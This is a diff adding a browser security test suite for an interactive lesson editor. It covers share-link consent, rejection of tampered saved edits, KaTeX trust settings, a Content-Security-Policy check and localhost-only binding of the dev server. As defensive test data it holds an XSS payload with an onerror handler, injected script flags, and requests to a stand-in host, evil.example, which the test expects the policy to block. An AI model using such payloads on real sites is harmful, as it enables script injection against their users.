@@ -1,0 +1,308 @@
+// Security in real Chromium: share links ask before running, saved data that is not this lesson's
+// never runs, nothing from a link or from saved edits becomes HTML outside its cell's output, TeX
+// runs with KaTeX's `trust` off, built pages carry a CSP that allows no third-party origin, and
+// the dev server listens on localhost only unless asked. The threat model: SECURITY.md.
+import { spawn, type ChildProcess } from "node:child_process";
+import { readFileSync } from "node:fs";
+import { connect } from "node:net";
+import { networkInterfaces } from "node:os";
+import { join } from "node:path";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { compileLesson } from "../../src/compile/index.ts";
+import { encodeSaved } from "../../src/editor/saved.ts";
+import { encodeShare, type SharedState } from "../../src/editor/share.ts";
+import { buildAndServe, fixtureLessonsDir, launchBrowser, repoDir, startDevServer, type Browser, type Site } from "./browser.ts";
+import { isPwned, lessonText, openClean } from "./editorPage.ts";
+import { openLesson, settle } from "./lessonPage.ts";
+import { serveFixtureFolder } from "./serveFolder.ts";
+
+let browser: Browser;
+let dev: Site;
+let url: string;
+
+const lessonKey = "fixture-slider.md";
+const slider = compileLesson(readFileSync(join(fixtureLessonsDir, "fixture-slider.md"), "utf8"), { file: lessonKey });
+const doubledId = slider.cells.find((cell) => cell.outputs.includes("doubled"))!.id;
+const payload = `<img src=x onerror="window.__pwned=1">`;
+
+beforeAll(async () => {
+  [browser, dev] = await Promise.all([launchBrowser(), startDevServer()]);
+  url = `${dev.url}fixture-slider.html`;
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await dev?.close();
+});
+
+/** Images anywhere in the page except inside cell outputs (where a cell may draw what it likes). */
+function countInjected(page: Page): Promise<number> {
+  return page.evaluate(() => [...document.querySelectorAll("img, script[src*='evil'], iframe")].filter((el) => !el.closest("[data-cell]")).length);
+}
+
+describe("share links", () => {
+  it("run nothing before the reader agrees", async () => {
+    const hash = encodeShare({ v: 1, lesson: lessonKey, cells: { [doubledId]: "window.__pwned = 1;\nconst doubled: number = k * 10;" }, inputs: {} });
+    const page = await browser.newPage();
+    await openClean(page, url, url + hash);
+    const dialog = page.locator("dialog[open]");
+    await dialog.waitFor({ state: "visible" });
+    await settle(page);
+    await new Promise((done) => setTimeout(done, 1000)); // Anything that would run has had the time to.
+    expect(await isPwned(page)).toBeUndefined();
+    expect(await lessonText(page)).toContain("Twice k is 4.");
+    await dialog.getByRole("button", { name: "Run shared code" }).click();
+    // The same code does run once the reader agrees: the test above would have seen it.
+    await expect.poll(() => isPwned(page)).toBe(1);
+    await expect.poll(() => lessonText(page)).toContain("Twice k is 20.");
+    await page.close();
+  });
+
+  it("put nothing from the link into the page as HTML", async () => {
+    // A valid link with the payload in sources, string values and an unknown input's name…
+    const valid = encodeShare({
+      v: 1,
+      lesson: lessonKey,
+      cells: {
+        [doubledId]: `// ${payload}\nconst doubled: number = k * 10; const note = ${JSON.stringify(payload)};`,
+        ["abcdef0123"]: payload,
+      },
+      inputs: { k: 3, note: payload, img: payload },
+    });
+    const page = await browser.newPage();
+    await openClean(page, url, url + valid);
+    const dialog = page.locator("dialog[open]");
+    await dialog.waitFor({ state: "visible" });
+    await expect.poll(() => dialog.textContent()).toContain(payload);
+    expect(await countInjected(page)).toBe(0);
+    await dialog.getByRole("button", { name: "Run shared code" }).click();
+    await expect.poll(() => lessonText(page)).toContain("Twice k is 30.");
+    expect(await countInjected(page)).toBe(0);
+    expect(await page.locator("img").count()).toBe(0);
+    expect(await isPwned(page)).toBeUndefined();
+
+    // …a string value for a real input, shown in the dialog…
+    await openClean(page, url, url + encodeShare({ v: 1, lesson: lessonKey, cells: {}, inputs: { k: payload } }));
+    await dialog.waitFor({ state: "visible" });
+    await expect.poll(() => dialog.textContent()).toContain(`k = ${JSON.stringify(payload)}`);
+    expect(await page.locator("img").count()).toBe(0);
+    await page.keyboard.press("Escape");
+
+    // …and links with the payload as a cell id or an input name, which are refused whole.
+    const refused: SharedState[] = [
+      { v: 1 as const, lesson: lessonKey, cells: { [payload]: "1" }, inputs: {} },
+      { v: 1 as const, lesson: lessonKey, cells: {}, inputs: { [payload]: 1 } },
+      { v: 1 as const, lesson: payload, cells: {}, inputs: { k: 1 } },
+    ];
+    for (const state of refused) {
+      await openClean(page, url, url + encodeShare(state));
+      await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(/share link/i);
+      expect(await page.locator("dialog[open]").count()).toBe(0);
+      expect(await page.locator("img").count()).toBe(0);
+      expect(await isPwned(page)).toBeUndefined();
+    }
+    await page.close();
+  });
+});
+
+describe("saved edits", () => {
+  const cell = (source: string) => ({ source, authorSource: "const doubled: number = k * 2;", savedAt: 1, index: 1, outputs: ["doubled"] });
+
+  for (const [name, make, notice] of [
+    ["that do not parse", () => `{"version":1,"lesson":"${lessonKey}","cells":{"${doubledId}":{"source":"window.__pwned=1`, /could not be read/],
+    ["with a wrong checksum", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [doubledId]: cell("const doubled = 1;") } }).replace("const doubled = 1;", "window.__pwned = 1; const doubled = 1;"), /could not be read/],
+    ["written for another lesson", () => encodeSaved({ version: 1, lesson: "other.md", cells: { [doubledId]: cell("window.__pwned = 1;\nconst doubled: number = k * 10;") } }), /could not be read/],
+    ["with an id that is HTML", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [payload]: cell("window.__pwned = 1;") } }), /could not be read/],
+    ["from another version", () => encodeSaved({ version: 1, lesson: lessonKey, cells: { [doubledId]: cell("window.__pwned = 1;\nconst doubled = 1;") } }).replace('"version":1', '"version":2'), /could not be read/],
+  ] as const) {
+    it(`that ${name} are ignored with a notice, never run`, async () => {
+      const page = await browser.newPage();
+      await openClean(page, url);
+      await page.evaluate(([key, text]) => localStorage.setItem(key, text), [`live-lesson:${lessonKey}`, make()]);
+      await page.reload();
+      await page.waitForFunction(() => "lesson" in window);
+      await expect.poll(() => page.locator(".lesson-edits-notice").textContent()).toMatch(notice);
+      await settle(page);
+      expect(await isPwned(page)).toBeUndefined();
+      expect(await lessonText(page)).toContain("Twice k is 4.");
+      await page.close();
+    });
+  }
+
+  it("put nothing into the page as HTML outside the cell's output", async () => {
+    const page = await browser.newPage();
+    await openClean(page, url);
+    const saved = encodeSaved({
+      version: 1,
+      lesson: lessonKey,
+      cells: {
+        // The reader's own valid edit runs again; its string shows as text, in its own output.
+        [doubledId]: { ...cell(`const doubled: number = k * 10; display(${JSON.stringify(payload)});`), authorSource: payload },
+        // An edit that matches no cell is kept, and must not be shown as HTML anywhere either.
+        ["0123456789"]: { ...cell(payload), authorSource: payload, outputs: ["note"] },
+      },
+    });
+    await page.evaluate(([key, text]) => localStorage.setItem(key, text), [`live-lesson:${lessonKey}`, saved]);
+    await page.reload();
+    await page.waitForFunction(() => "lesson" in window);
+    await expect.poll(() => lessonText(page)).toContain("Twice k is 20.");
+    await expect.poll(() => lessonText(page)).toContain("<img src=x onerror="); // As text.
+    expect(await page.locator("img").count()).toBe(0);
+    expect(await isPwned(page)).toBeUndefined();
+    await page.close();
+  });
+});
+
+describe("TeX", () => {
+  const hostile = /javascript:|evil\.example|pwned-class|pwned-id|data-pwned/;
+
+  it("compiles with KaTeX's trust off: no links, images, classes, ids, styles or data attributes", () => {
+    const source = readFileSync(join(fixtureLessonsDir, "_security", "fixture-tex.md"), "utf8");
+    const { html } = compileLesson(source, { file: "fixture-tex.md" });
+    // The prose's math only: the listing may quote the source, and headings carry their own anchors.
+    const math = html.slice(0, html.indexOf("Rendered in the page")).replace(/<a class="header-anchor"[^>]*>[\s\S]*?<\/a>/g, "");
+    expect(math).toContain("katex");
+    expect(math).not.toMatch(/<a\b|<img\b|class="[^"]*pwned|id="pwned|data-pwned|style="[^"]*evil/);
+  });
+
+  it("renders `tex` in the page with trust off too", async () => {
+    const site = await serveFixtureFolder("_security");
+    try {
+      const page = await browser.newPage();
+      const requests: string[] = [];
+      page.on("request", (request) => requests.push(request.url()));
+      const cells = await openLesson(page, `${site.url}fixture-tex.html`);
+      expect(cells.every((c) => c.status === "fulfilled")).toBe(true);
+      const found = await page.evaluate(
+        (pattern) =>
+          [...document.querySelectorAll("#lesson .katex *")]
+            .filter((el) => el.tagName === "A" || el.tagName === "IMG" || [...el.attributes].some((a) => new RegExp(pattern).test(a.value) || a.name.startsWith("data-pwned")))
+            .map((el) => el.outerHTML.slice(0, 120)),
+        hostile.source,
+      );
+      expect(found).toEqual([]);
+      expect(await page.locator("#lesson [data-cell] .katex").count()).toBeGreaterThan(0);
+      expect(requests.filter((r) => r.includes("evil.example"))).toEqual([]);
+      expect(await isPwned(page)).toBeUndefined();
+      await page.close();
+    } finally {
+      await site.close();
+    }
+  });
+});
+
+describe("built pages' Content-Security-Policy", () => {
+  let built: Site & { outDir: string };
+  beforeAll(async () => {
+    built = await buildAndServe("/course/");
+  });
+  afterAll(async () => {
+    await built?.close();
+  });
+
+  it("allows no third-party origin", () => {
+    for (const name of ["index.html", "fixture-slider.html", "derivatives-and-gradients.html"]) {
+      const html = readFileSync(join(built.outDir, name), "utf8");
+      const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
+      expect(policy, name).toBeDefined();
+      const directives = new Map(policy!.split(";").map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k!, v]));
+      expect(directives.get("default-src"), name).toEqual(["'self'"]);
+      for (const [directive, sources] of directives) {
+        for (const source of sources) {
+          // Only the page's own origin, inline data/blob URLs, and keywords or hashes: no host.
+          expect(source, `${name} ${directive}`).toMatch(/^('self'|'none'|'unsafe-eval'|'unsafe-inline'|'unsafe-hashes'|'sha(256|384|512)-[A-Za-z0-9+/=]+'|data:|blob:)$/);
+        }
+      }
+      for (const required of ["script-src", "connect-src", "img-src", "default-src"]) expect(directives.has(required) || required !== "default-src", name).toBe(true);
+    }
+  });
+
+  it("blocks scripts, requests and images from another origin", async () => {
+    const page = await browser.newPage();
+    const reached: string[] = [];
+    await page.route("https://evil.example/**", (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ status: 200, contentType: "text/javascript", body: "window.__pwned = 1;" });
+    });
+    await openLesson(page, `${built.url}fixture-slider.html`);
+    const violations = await page.evaluate(async () => {
+      const seen: string[] = [];
+      document.addEventListener("securitypolicyviolation", (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
+      const script = document.createElement("script");
+      script.src = "https://evil.example/x.js";
+      document.head.append(script);
+      const image = new Image();
+      image.src = "https://evil.example/y.png";
+      document.body.append(image);
+      const fetched = await fetch("https://evil.example/z.json").then(() => "fetched", () => "blocked");
+      await new Promise((done) => setTimeout(done, 500));
+      return { seen, fetched };
+    });
+    expect(violations.fetched).toBe("blocked");
+    expect(violations.seen).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^script-src.* https:\/\/evil\.example/), expect.stringMatching(/^connect-src https:\/\/evil\.example/), expect.stringMatching(/^img-src https:\/\/evil\.example/)]),
+    );
+    expect(reached).toEqual([]);
+    expect(await isPwned(page)).toBeUndefined();
+    await page.close();
+  });
+});
+
+describe("the dev server", () => {
+  const external = Object.values(networkInterfaces())
+    .flat()
+    .find((a) => a && !a.internal && a.family === "IPv4")?.address;
+
+  /** Starts `lesson dev` on a free port; resolves once it prints its URL. */
+  async function startCli(args: string[]): Promise<{ child: ChildProcess; output: string; port: number }> {
+    const port = 20_000 + Math.floor(Math.random() * 20_000);
+    const child = spawn(process.execPath, [join(repoDir, "bin/lesson.js"), "dev", join(repoDir, "lessons"), "--port", String(port), ...args], {
+      cwd: repoDir,
+      stdio: ["ignore", "pipe", "pipe"],
+      env: { ...process.env, BROWSER: "none", NO_COLOR: "1" },
+    });
+    let output = "";
+    await new Promise<void>((done, fail) => {
+      const timer = setTimeout(() => fail(new Error(`lesson dev did not start:\n${output}`)), 30_000);
+      const read = (chunk: Buffer) => {
+        output += chunk.toString();
+        // Vite prints Local, then Network (when listening beyond this machine) at once after it.
+        if (/Local:/.test(output)) clearTimeout(timer), setTimeout(done, 500);
+      };
+      child.stdout!.on("data", read);
+      child.stderr!.on("data", read);
+      child.once("exit", () => fail(new Error(`lesson dev exited:\n${output}`)));
+    });
+    const actual = Number(/Local:\s+http:\/\/[^:]+:(\d+)/.exec(output)?.[1] ?? port);
+    return { child, output, port: actual };
+  }
+
+  function canConnect(host: string, port: number): Promise<boolean> {
+    return new Promise((done) => {
+      const socket = connect({ host, port });
+      socket.setTimeout(2000, () => (socket.destroy(), done(false)));
+      socket.once("connect", () => (socket.destroy(), done(true)));
+      socket.once("error", () => done(false));
+    });
+  }
+
+  it("listens on localhost only unless --host asks otherwise", async () => {
+    const local = await startCli([]);
+    try {
+      expect(local.output).toMatch(/Local:\s+http:\/\/(localhost|127\.0\.0\.1|\[::1\]):\d+/);
+      expect(local.output).not.toMatch(/Network:\s+http/);
+      expect(await canConnect("127.0.0.1", local.port)).toBe(true);
+      if (external) expect(await canConnect(external, local.port)).toBe(false);
+    } finally {
+      local.child.kill("SIGTERM");
+    }
+    const open = await startCli(["--host", "0.0.0.0"]);
+    try {
+      expect(open.output).toMatch(/Network:\s+http/);
+      if (external) expect(await canConnect(external, open.port)).toBe(true);
+    } finally {
+      open.child.kill("SIGTERM");
+    }
+  });
+});
